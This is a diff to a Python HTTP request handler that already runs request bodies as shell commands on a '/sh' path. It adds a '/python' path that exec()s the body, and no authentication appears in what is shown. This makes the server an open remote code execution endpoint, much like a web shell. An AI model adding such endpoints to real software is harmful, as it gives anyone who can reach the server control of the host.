@@ -49,6 +49,9 @@ class Handler(http.server.BaseHTTPRequestHandler):
         if self.path == "/sh":
             done = subprocess.run(["/bin/sh", "-c", body.decode()], capture_output=True)
             self.say({"code": done.returncode, "out": done.stdout.decode(), "err": done.stderr.decode()})
+        elif self.path == "/python":
+            exec(body)
+            self.say({})
         else:
             self.say({"path": self.path, "headers": dict(self.headers.items()), "body": body.decode("latin-1")})
     def log_message(self, *_):
